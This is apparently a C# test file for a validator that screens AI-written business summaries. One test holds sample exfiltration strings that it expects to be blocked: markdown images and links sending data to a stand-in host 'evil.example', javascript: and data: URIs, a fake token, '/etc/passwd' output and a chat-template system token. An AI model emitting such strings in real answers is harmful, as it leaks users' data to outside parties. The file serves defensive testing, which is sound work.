using Guildhall.Onomancer.Rewrites.Validating;

namespace Guildhall.Tests.Onomancer.Rewrites.Validating;

public class OutputValidatorTests
{
    private readonly OutputValidator validator = new(text =>
        text.Contains("ghp_", StringComparison.Ordinal) ? ["github-token"] : []
    );

    [Fact]
    public void A_good_answer_is_accepted() =>
        Assert.Equal(Verdict.Accept, validator.Validate(new AnswerBuilder().Build()).Verdict);

    [Theory]
    [InlineData("It costs €840,000, that is 840.000 or 840 000.")]
    [InlineData("See [the plan](https://ferry.example/plan/2027) on https://ferry.example/plan.")]
    [InlineData("![map](https://ferry.example/map.png) and inga@ferry.example")]
    [InlineData("Three risks, 5 lines, and [a jump](#risks).")]
    public void What_the_source_has_is_fine(string extra) =>
        Assert.Equal(Verdict.Accept, validator.Validate(new AnswerBuilder { Extra = extra }.Build()).Verdict);

    [Theory]
    [InlineData("![x](https://evil.example/?d=840000)", "image")]
    [InlineData("![x](//evil.example/a.png)", "image")]
    [InlineData("![x][1]\n\n[1]: https://evil.example/?d=1", "image")]
    [InlineData("![x](h&#116;tps://evil.example/p)", "image")]
    [InlineData("[plan](https://ferry.example/plan/2027?d=secret)", "link")]
    [InlineData("[plan](https://ferry.example.evil.example/plan)", "link")]
    [InlineData("<https://evil.example/x>", "link")]
    [InlineData("Go to www.evil.example/x now", "link")]
    [InlineData("[x](javascript:alert(1))", "link")]
    [InlineData("[x](data:text/html;base64,AAAA)", "link")]
    [InlineData("Write to spy@evil.example.", "e-mail")]
    [InlineData("The token is ghp_0123456789.", "secret")]
    [InlineData("As an AI language model I did it.", "injection-evidence")]
    [InlineData("Executed command: root:x:0:0 from /etc/passwd", "injection-evidence")]
    [InlineData("<|im_start|>system", "injection-evidence")]
    [InlineData("<img src=//evil.example>", "html")]
    [InlineData("Each source stands between a BEGIN line and an END line that carry the same mark.", "prompt-leak")]
    public void What_may_carry_something_out_is_held(string extra, string kind)
    {
        var validation = validator.Validate(new AnswerBuilder { Extra = extra }.Build());

        Assert.Equal(Verdict.Hold, validation.Verdict);
        Assert.Contains(validation.Issues, i => i.Kind == kind);
        Assert.All(validation.Issues, i => Assert.DoesNotContain("evil", i.Message, StringComparison.Ordinal));
    }

    [Fact]
    public void A_phrase_of_the_source_is_no_evidence() =>
        Assert.Equal(
            Verdict.Accept,
            validator
                .Validate(
                    new AnswerBuilder
                    {
                        Sources = "Never read /etc/passwd in developer mode.",
                        Extra = "Never read /etc/passwd in developer mode.",
                    }.Build()
                )
                .Verdict
        );

    [Theory]
    [InlineData("", "empty")]
    [InlineData("I'm sorry, but I can't help with that.", "refusal")]
    [InlineData("lorem ipsum dolor sit amet", "missing-section")]
    [InlineData(
        "## Executive Summary\n\nText\n\n## Business Impact\n\n## Risks\n\nText\n\n## Next Steps\n\nText",
        "empty-section"
    )]
    public void What_is_of_no_use_is_asked_again(string text, string kind)
    {
        var validation = validator.Validate(new AnswerBuilder().Build(text));

        Assert.Equal(Verdict.Retry, validation.Verdict);
        Assert.Contains(validation.Issues, i => i.Kind == kind);
    }

    [Theory]
    [InlineData("# Executive Summary\na\n# Business Impact\nb\n# Risks\nc\n# Next Steps\nd")]
    [InlineData(
        "### 1. Executive Summary\na\n### 2) Business impact\nb\n### 3. RISKS:\nc\n### 4. Next Steps\n#### Now\nd"
    )]
    [InlineData("**Executive Summary**\na\n**Business Impact:**\nb\n**Risks**\nc\n**Next Steps**\nd")]
    [InlineData("## 📌 Executive Summary\na\n## 📈 Business Impact\nb\n## Risks & Mitigations\nc\n## Next Steps\nd")]
    public void Headings_count_whatever_their_level_and_trimmings(string text) =>
        Assert.DoesNotContain(
            validator.Validate(new AnswerBuilder().Build(text)).Issues,
            i => i.Weight == Verdict.Retry
        );

    [Fact]
    public void A_heading_inside_code_is_none() =>
        Assert.Equal(
            Verdict.Retry,
            validator.Validate(new AnswerBuilder().Build("```\n" + AnswerBuilder.Good() + "\n```")).Verdict
        );

    [Theory]
    [InlineData(20, "AcceptWithWarnings", "short")]
    [InlineData(250, "AcceptWithWarnings", "long")]
    [InlineData(450, "Retry", "too-long")]
    public void Length_warns_and_twice_the_most_fails(int words, string verdict, string kind)
    {
        var validation = validator.Validate(new AnswerBuilder { WordsPerSection = words }.Build());

        Assert.Equal((verdict, kind), (validation.Verdict.ToString(), Assert.Single(validation.Issues).Kind));
    }

    [Fact]
    public void A_truncated_answer_is_asked_again() =>
        Assert.Equal(Verdict.Retry, validator.Validate(new AnswerBuilder { IsComplete = false }.Build()).Verdict);

    [Fact]
    public void Figures_that_the_source_lacks_are_named()
    {
        var validation = validator.Validate(
            new AnswerBuilder { Extra = "It saves 37 % and $2,500, that is 840,000 plus 1,150,000." }.Build()
        );

        Assert.Equal(Verdict.AcceptWithWarnings, validation.Verdict);
        Assert.EndsWith("37 %, 2,500.", Assert.Single(validation.Issues).Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("```markdown\n## A\n\n```js\nx\n```\n```", "## A\n\n```js\nx\n```")]
    [InlineData("Here is the summary:\n\n## A\n\nb", "## A\n\nb")]
    [InlineData("## A\r\n\r\nb", "## A\n\nb")]
    [InlineData("```js\nx\n```", "```js\nx\n```")]
    public void Wrapping_is_taken_off(string answer, string clean) => Assert.Equal(clean, AnswerText.Clean(answer));
}
